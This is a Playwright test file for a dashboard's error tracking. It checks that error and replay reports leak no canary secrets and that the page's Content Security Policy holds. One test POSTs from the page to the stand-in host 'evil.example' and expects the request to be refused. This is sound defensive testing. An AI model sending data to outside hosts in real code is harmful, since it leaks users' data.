import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { expectStatus } from '../../local/client/client.ts';
import { pageHeaders, pagePolicy } from '../../lib/page-headers.ts';
import { complaintsOf, newReader, startBrowser, visit } from '../support/browser.ts';
import { cloud, newTenant, until, type Tenant } from '../support/cloud.ts';
import { eventOf, readEnvelope, type Arrived } from '../support/error-sink.ts';

const TRACKER = 'https://errors.example.com';
const errors = { dsn: `${TRACKER}/7`.replace('//', '//0123456789abcdef@'), origin: TRACKER, release: 'rempart@0.1.0+abc', environment: 'Staging' };
/** What is on the pages and must not be in a report: a name, a person, a token of a mail. */
const CANARIES = ['cnry-orvella', 'Cnry Kent', 'eyJhbGciOiJSUzI1NiJ9.cnry.sig'];
const [BOT = '', , TOKEN = ''] = CANARIES;

let browser: Browser;
let tenant: Tenant;
let reader: BrowserContext;
let page: Page;
let complaints: string[];
const arrived: Arrived[] = [];
beforeAll(async () => {
  browser = await startBrowser();
  tenant = await newTenant();
  await expectStatus(tenant.client.call('POST', '/v1/chatbots', { body: { name: BOT } }), 201);
}, 120_000);
afterAll(() => browser?.close());

/** The page as an instance with a DSN serves it: its own files, with the headers that its templates would have. The tracker is on no network; the browser's own policy decides whether it is asked. */
async function withTracker(context: BrowserContext): Promise<void> {
  await context.route(
    ({ origin, pathname }) => origin === cloud().app && pathname === '/',
    async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      const [, uploadOrigin = ''] = /connect-src 'self' (\S+);/.exec(headers['content-security-policy'] ?? '') ?? [];
      const edgeOrigin = headers['x-rempart-edge-origin'] ?? '';
      const told = Object.entries(pageHeaders({ edgeOrigin, errors })).map(([name, value]) => [name.toLowerCase(), value]);
      await route.fulfill({ response, headers: { ...headers, ...Object.fromEntries(told), 'content-security-policy': pagePolicy({ uploadOrigin, errors }) } });
    },
  );
  await context.route(`${TRACKER}/**`, async (route) => {
    const request = route.request();
    if (request.method() === 'POST') arrived.push({ ...readEnvelope(request.postDataBuffer() ?? Buffer.alloc(0)), headers: request.headers() });
    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }, body: '{}' });
  });
}

async function open(configured: boolean): Promise<void> {
  reader = await newReader(browser, { language: 'en' });
  if (configured) await withTracker(reader);
  page = await reader.newPage();
  complaints = complaintsOf(page);
}

async function signIn(): Promise<void> {
  await visit(page, '/login');
  await page.locator('input[name=email]').fill(tenant.email);
  await page.locator('input[name=password]').fill(tenant.password);
  await page.locator('form button[type=submit]').click();
  await page.getByText(BOT).first().waitFor();
}

beforeEach(() => {
  arrived.length = 0;
});

describe('a dashboard whose errors go somewhere', () => {
  test('tells of an error that it has caught, with what was seen before it and nothing that was written there (S23.2)', async () => {
    await open(true);
    const worker = page.waitForEvent('worker');
    await visit(page, `/verify-email?token=${TOKEN}`);
    expect(new URL((await worker).url()).pathname).toMatch(/^\/assets\/replay-worker-[\da-f]{8}\.js$/);
    await signIn();
    expect(arrived).toEqual([]);

    // The service answers what it never would: a real failure of a real page.
    await reader.route(
      ({ pathname }) => pathname === '/v1/members',
      async (route) => {
        const reply = (await (await route.fetch()).json()) as Record<string, unknown>;
        await route.fulfill({ json: Object.fromEntries(Object.entries(reply).map(([name, value]) => [name, Array.isArray(value) ? [null] : value])) });
      },
    );
    await page.mouse.click(600, 400);
    await page.goto(`${cloud().app}/#/team`);
    await page.getByText('This page has failed').waitFor();

    const error = await until(() => arrived.find(({ items }) => items.some(({ type }) => type === 'event')));
    const recording = await until(() => arrived.find(({ items }) => items.some(({ type }) => type === 'replay_recording')));
    const event = eventOf(error) as { exception: { values: { type: string; stacktrace: { frames: { filename: string }[] } }[] }; tags: Record<string, string> };
    expect(event).toMatchObject({ platform: 'javascript', release: errors.release, environment: 'Staging', tags: { function: 'dashboard' } });
    expect(event.exception.values.at(-1)?.type).toBe('TypeError');
    expect(
      event.exception.values
        .at(-1)
        ?.stacktrace.frames.map(({ filename }) => filename)
        .join(),
    ).toMatch(/app:\/\/\/assets\/[\w-]+\.js/);
    expect(Object.keys(event).filter((name) => ['user', 'request', 'breadcrumbs', 'extra', 'message', 'modules'].includes(name))).toEqual([]);

    // What was seen: a whole page, as shapes and stars, of the same replay that the error names.
    const seen = JSON.parse(recording.items.find(({ type }) => type === 'replay_recording')?.payload ?? '[]') as { type: number }[];
    expect(seen.some(({ type }) => type === 2)).toBe(true);
    expect(JSON.stringify(seen)).toContain('****');
    const about = JSON.parse(recording.items.find(({ type }) => type === 'replay_event')?.payload ?? '{}') as Record<string, unknown>;
    expect(about).toMatchObject({ replay_id: event.tags['replayId'], replay_type: 'buffer', urls: [] });

    const secrets = [...CANARIES, tenant.email, tenant.name, tenant.accountId, tenant.userId, 'verify-email', 'Chatbots', 'X-Amz', '127.0.0.1', 'Mozilla'];
    for (const { text } of arrived) expect(secrets.filter((secret) => text.includes(secret))).toEqual([]);
    for (const { text } of arrived) expect(text).not.toMatch(/"(?:value|message|user|request|breadcrumbs|data-[a-z]+|aria-label|placeholder)":"[^"]*[a-z]/i);
    // Trusted Types and the rest of the policy have had nothing to refuse.
    expect(complaints.filter((line) => /Content Security Policy|TrustedScriptURL|Refused/.test(line))).toEqual([]);
  }, 120_000);

  test('lets no other worker start, no text become an address of script, and talks to no other host (S23.8)', async () => {
    const tried = await page.evaluate(async () => {
      const outcome = (act: () => unknown): string => {
        try {
          act();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const elsewhere = await fetch('https://evil.example/api/7/envelope/', { method: 'POST', body: '{}' }).then(
        () => 'sent',
        () => 'refused',
      );
      return { text: outcome(() => new Worker('/assets/anything.js')), blob: outcome(() => new Worker(URL.createObjectURL(new Blob([''])))), elsewhere };
    });
    expect(tried).toEqual({ text: 'TypeError', blob: 'TypeError', elsewhere: 'refused' });
    await reader.close();
  });
});

test('a dashboard without a DSN loads no tracker, starts no worker and sends nothing, whatever fails', async () => {
  await open(false);
  const loaded: string[] = [];
  page.on('request', (request) => void loaded.push(request.url()));
  let workers = 0;
  page.on('worker', () => void (workers += 1));
  const told = page.waitForResponse((response) => response.request().method() === 'HEAD');
  await visit(page, '/login');
  await told;
  await page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('x'))));
  await page.waitForLoadState('networkidle');
  expect(loaded.filter((url) => /tracker|replay|envelope/.test(url))).toEqual([]);
  expect([workers, arrived]).toEqual([0, []]);
  expect(await page.evaluate(() => Object.keys(sessionStorage).length)).toBe(0);
  await reader.close();
});
